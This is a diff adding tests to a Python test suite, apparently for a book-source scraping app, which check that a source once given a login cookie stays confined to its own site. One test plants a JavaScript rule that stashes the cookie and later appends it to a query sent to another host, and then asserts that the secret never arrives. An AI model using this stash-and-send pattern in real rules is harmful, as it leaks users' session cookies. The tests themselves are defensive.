@@ -91,10 +91,10 @@ async def test_a_jar_made_under_a_cookie_for_one_run_is_not_kept(tmp_path: Path)
         )
         assert signed_in.fetched == 1, signed_in.failures
         later = SourceRegistry(data)  # a later run, without the cookie
-        async for outcome in search_sources(
+        async for _ in search_sources(
             [later.get(source_id)], "青云", http=QUICK, memory=MemoryDict()
         ):
-            assert outcome.ok, outcome.error
+            pass  # refused now too (it held a cookie), but the jar is the point here
     assert "SIGNED-IN" not in json.dumps(elsewhere.queries)
     assert later.cookies.jar(source_id) == {}
 
@@ -112,3 +112,35 @@ async def test_a_jar_made_under_a_forgotten_cookie_is_not_kept(tmp_path: Path) -
         registry.set_cookie(source_id, "")  # forgotten, mid-job
         cookies.close()  # the job ends
     assert SourceRegistry(data).cookies.jar(source_id) == {}
+
+
+async def test_what_a_source_kept_while_it_held_your_cookie_stays_home(tmp_path: Path) -> None:
+    # Kept while confined (a book's java.put values are remembered across runs), sent from a
+    # later run that holds no cookie: after a cookie given for one run, or a forgotten one.
+    async with serving(Site(), "127.0.0.1") as elsewhere, serving(Site(), "127.0.0.2") as own:
+        source = rule(own.base)
+        stash = "var c = cookie.getCookie(baseUrl); if (c) java.put('c', c); result"
+        source["ruleBookInfo"] = {"name": f"tag.h1@text@js:{stash}"}
+        send = f"'{elsewhere.base}search?q=' + java.get('c')"  # its queries are recorded
+        source["ruleToc"]["chapterUrl"] = f"tag.a@href@js:{send}"  # type: ignore[index]
+        registry, (source_id,) = import_rules(tmp_path / "data", source, other_sites=False)
+        store = tmp_path / "s.sqlite3"
+        confined = await download(registry, source_id, own.url("/book"), store, cookie=SECRET)
+        assert len(confined.failures) == 1 and elsewhere.seen == []
+        await download(registry, source_id, own.url("/book"), store)  # no cookie now
+    assert "LOGIN-SECRET" not in json.dumps(elsewhere.queries)
+
+
+def test_a_source_that_held_your_cookie_stays_confined(tmp_path: Path) -> None:
+    data = tmp_path / "data"
+    registry, (source_id,) = import_rules(data, rule("https://www.example.com/"), other_sites=False)
+    assert registry.get(source_id).network_policy().confined_to == ""  # never held one
+    registry.set_cookie(source_id, SECRET)
+    registry.set_cookie(source_id, "")  # forgotten
+    assert registry.get(source_id).network_policy().confined_to == "example.com"
+    registry.remove(source_id)  # its books, and what it kept with them, stay
+    again, _ = import_rules(data, rule("https://www.example.com/"), other_sites=False)
+    assert again.get(source_id).network_policy().confined_to == "example.com"
+    assert "LOGIN" not in (data / "cookies.json").read_text(encoding="utf-8")
+    again.set_allow_other_sites(source_id, True)  # the way out: the user trusts it
+    assert SourceRegistry(data).get(source_id).network_policy().confined_to == ""
